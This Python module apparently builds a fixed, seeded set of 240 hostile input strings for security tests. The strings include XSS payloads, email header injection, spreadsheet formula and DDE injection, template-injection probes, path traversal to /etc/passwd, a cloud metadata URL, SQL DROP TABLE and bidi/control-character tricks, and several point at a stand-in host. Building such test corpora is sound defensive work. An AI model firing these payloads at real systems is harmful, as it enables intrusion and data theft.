"""Words that try to be something else: two hundred and more, the same ones each time."""

from collections.abc import Iterator
from random import Random

SEED = 20261123
WANTED = 240
FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "</textarea></title></style></script><b>",
        "</bdi></td></tr></table><h1>",
        "</option></select><form action=https://evil.example><button>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=//evil.example>",
        "<style>*{display:none}</style>",
        "<!-- <a href='https://evil.example'>press</a> -->",
        "--><script>1</script><!--",
        "]]> <![CDATA[ <?php echo 1 ?>",
        "<a\thref='x'\nonclick=alert(1)>",
        "<plaintext>",
        "<br" * 40,
        "<<<>>><</>",
    ),
    "attribute": (
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)',
        "x onfocus=alert(1) autofocus",
        '" style="position:fixed" x="',
        "`onload=alert(1)`",
        '" formaction="https://evil.example" x="',
        '\\"onclick=alert(1)//',
        "'\"`>",
    ),
    "entity": (
        "&lt;b&gt; &amp; &#x3c;script&#x3e;",
        "&#60img src=x&#62",
        "&quot; onclick=&quot;alert(1)",
        "&notit; &lt &LT; &#0; &#xd800;",
        "&colon;&Tab;&NewLine;javascript:alert(1)",
        "&#x202e;",
    ),
    "header": (
        "paid\r\nBcc: all@evil.example",
        "paid\nBcc: all@evil.example",
        "paid\rBcc: all@evil.example",
        "paid\r\n\r\n<html>",
        "paid%0d%0aBcc: all@evil.example",
        "paid\x0bBcc: x\x0cCc: y",
        "paid\x85Bcc: x\u2028Cc: y\u2029Reply-To: z",
        "=?utf-8?q?=0D=0ABcc:_all=40evil.example?=",
        "=?utf-8?b?" + "QUJD" * 40 + "?=",
        "Subject: x\r\n Content-Type: text/html",
        "\r\n.\r\nMAIL FROM:<x@evil.example>",
        "From: a@evil.example, b@evil.example;",
    ),
    "bidi": (
        "gpj.\u202egnp\u2066x",
        "\u202ereversed\u202c",
        "\u2067isolated\u2069",
        "\u200fright\u200eleft",
        "\u061cmark",
        "שלום <b>",
        "مرحبا %(department)s",
        "\u202a\u202b\u202d" * 20,
    ),
    "formula": (
        '=HYPERLINK("https://evil.example")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "'=1+1",
        "''=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "plain;=1+1",
        "plain\n=1+1",
        "plain\t=1+1",
        'a","=1+1',
        'a";"=1+1',
        "\ufeff=1+1",
        "\u200b=1+1",
        "=1+1;@SUM(1)\n-1",
    ),
    "template": (
        "{{ 7 * 7 }}",
        "{{ ''.__class__.__mro__ }}",
        "{% include 'pages/page.css' %}",
        "{% for x in range(10**9) %}x{% endfor %}",
        "{# gone #}",
        "{{ quote|safe }}",
        "{%- raw -%}",
        "# for x in y",
        "${7*7} #{7*7} <%= 7*7 %> @{7*7}",
        "{0} {quote} {0.__class__}",
        "{{'{{'}}",
    ),
    "gettext": (
        "%(department)s %s %% %",
        "%(nobody)s",
        "%(why)d",
        "%n%n%n%s%s%s",
        "%(quote)s" * 40,
        "%",
        "%()s",
        "it was reported at “%(touchpoint)s”",
        "the map names x for “y” and “%(words)s”",
        "a colleague",
    ),
    "address": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "https://evil.example/c/token",
        "//evil.example",
        "https://line.example@evil.example",
        "https://evil.example/" + "a" * 300,
        "mailto:x@evil.example?bcc=y@evil.example",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
    ),
    "control": (
        "nul\x00byte",
        "\x00",
        "\x1b[31mred\x1b[0m",
        "\x1b]8;;https://evil.example\x07press\x1b]8;;\x07",
        "\x7f\x80\x9b31m\x9f",
        "\x08\x08\x08back",
        "\ufffe\uffff\U0001ffff",
        "".join(map(chr, range(1, 32))),
    ),
    "surrogate": (
        "half \ud800 of a character",
        "\udfff",
        "\ud83d",
        "\ude00\ud83d",
        "1.\ud800",
        "<b\udc80>",
    ),
    "unseen": (
        "zero\u200bwidth\u200c\u200d\u2060",
        "\u200b",
        "soft\u00adhyphen",
        "\ufeffmark",
        "tags\U000e0041\U000e0042",
        "va\ufe0friant",
        "e" + "\u0301" * 500,
        "\u115f\u1160\u3164\uffa0",
    ),
    "long": (
        "x" * 20_000,
        "word " * 4_000,
        "<b>" * 6_666,
        "\U0001f980" * 20_000,
        "line\n" * 4_000,
        "“" * 20_000,
        "\u202e" * 20_000,
        "é" * 20_000,
    ),
    "nothing": ("", " ", "\n\n\n", "\u3000", "\u00a0\u2003"),
    "store": (
        "'; DROP TABLE x;--",
        '{"S": "x"}',
        "F#00000000000000000000000000000000",
        "../../../etc/passwd",
        "__proto__",
        "None",
        "NaN",
        "-1e999",
        "case#1#said#0001",
        "$.body[0]",
    ),
}


def _mixed() -> Iterator[tuple[str, str]]:
    """Two of them in one, drawn by the seed."""
    draw = Random(SEED)  # noqa: S311 - not a secret: it has to be the same each time
    short = [(name, one) for name, some in FAMILIES.items() for one in some if 0 < len(one) <= 400]
    while True:
        (name, one), (other, two) = draw.sample(short, 2)
        yield f"{name} and {other}", draw.choice(("", " ", "\n", "x", "\u200b")).join((one, two))


def _named() -> dict[str, str]:
    named = {f"{family} {at}": one for family, some in FAMILIES.items() for at, one in enumerate(some, start=1)}
    mixed = _mixed()
    while len(named) < WANTED:
        name, words = next(mixed)
        named[f"{name} {len(named)}"] = words
    return named


HOSTILE = _named()
EXAMPLES = tuple(HOSTILE.values())
SHORT = tuple(one for one in EXAMPLES if len(one) <= 400)
